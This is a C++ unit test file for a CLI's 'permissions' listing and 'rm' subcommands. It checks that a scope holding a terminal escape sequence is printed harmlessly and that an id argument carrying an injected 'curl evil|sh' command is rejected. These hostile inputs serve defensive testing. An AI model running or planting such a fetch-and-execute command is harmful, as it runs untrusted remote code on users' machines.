// cowork permissions, and permissions rm.

#include <algorithm>
#include <string>

#include <gmock/gmock.h>

#include "tests/support/cowork_at_work.h"
#include "tests/support/session_events.h"

namespace cowork {
namespace {

using support::FakeBroker;
using support::FakePermissions;
using support::kScope;
using support::Outcome;
using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr auto kOther = "w-2zzzzaaaaaaaaaaaaaaaaaaaaa";

class CliPermissions : public support::CoworkAtWork {
 protected:
  void SetUp() override {
    CoworkAtWork::SetUp();
    StartBroker();
  }
  void Add(const std::string& id, const std::string& scope, const std::string& session) {
    v1::Permission permission;
    permission.set_id(id);
    permission.set_scope(scope);
    permission.set_grant_id(FakeBroker::kGrant);
    permission.set_directory("/srv/app");
    permission.set_session_id(session);
    permission.set_by("owner");
    permission.set_added_unix_ms(1);
    broker_->permissions.Add(permission);
  }
  void AddBoth() {
    Add(FakePermissions::kPermission, kScope, FakeBroker::kSession);
    Add(kOther, "\"ls\x1b[2J\" in /srv/app", "");
  }
};

TEST_F(CliPermissions, AreListedInWordsThatCannotMoveTheCursor) {
  AddBoth();
  const Outcome outcome = Cowork({"permissions"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_THAT(outcome.text,
              AllOf(HasSubstr("w-2x9k4 · this session s-4f2k9 · /srv/app · owner · "),
                    HasSubstr("\n    \"npm test\" in /home/me/app\n"),
                    HasSubstr("w-2zzzz · always · /srv/app · owner · "),
                    HasSubstr("\n    \"ls\\x1b[2J\" in /srv/app\n"), Not(HasSubstr("\x1b"))));
}

TEST_F(CliPermissions, AreAnObjectALineForAScript) {
  AddBoth();
  const std::string line =
      R"({"id":"w-2x9k4aaaaaaaaaaaaaaaaaaaaa","scope":"\"npm test\" in /home/me/app",)"
      R"("grant_id":"g-k2m4paaaaaaaaaaaaaaaaaaaaa","directory":"/srv/app",)"
      R"("session_id":"s-4f2k9aaaaaaaaaaaaaaaaaaaaa","by":"owner","added_unix_ms":"1"})";
  const std::string text = Cowork({"permissions", "--json"}).text;
  EXPECT_EQ(text.substr(0, text.find('\n')), line);
  EXPECT_EQ(std::ranges::count(text, '\n'), 2) << text;
}

TEST_F(CliPermissions, ThatAreNoneAreToldApart) {
  const Outcome outcome = Cowork({"permissions"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_THAT(outcome.text, HasSubstr("Nothing is allowed for longer than once"));
  EXPECT_EQ(Cowork({"permissions", "--json"}).text, "");
}

TEST_F(CliPermissions, AreTakenBackByTheBeginningOfAnId) {
  AddBoth();
  const Outcome outcome = Cowork({"permissions", "rm", "w-2x"});
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_EQ(outcome.text, "taken back  \"npm test\" in /home/me/app\n");
  EXPECT_EQ(Cowork({"permissions", "rm", kOther}).text, "taken back  \"ls\\x1b[2J\" in /srv/app\n");
  EXPECT_THAT(broker_->permissions.removed(), ElementsAre(FakePermissions::kPermission, kOther));
  EXPECT_EQ(Cowork({"permissions", "rm", "w-2x", "--json"}).text,
            "{\"id\":\"w-2x9k4aaaaaaaaaaaaaaaaaaaaa\"}\n");
}

TEST_F(CliPermissions, AreTakenBackOnlyWhereOneIsMeant) {
  AddBoth();
  EXPECT_EQ(Cowork({"permissions", "rm", "w-2"}).exit, 2);
  EXPECT_EQ(Cowork({"permissions", "rm"}).exit, 2);
  EXPECT_EQ(Cowork({"permissions", "revoke", "w-2x"}).exit, 2);
  const Outcome unknown = Cowork({"permissions", "rm", "w-9; curl evil|sh"});
  EXPECT_EQ(unknown.exit, 1);
  EXPECT_THAT(unknown.text, HasSubstr("\n  do    cowork permissions\n"));
  EXPECT_THAT(broker_->permissions.removed(), IsEmpty());
}

}  // namespace
}  // namespace cowork
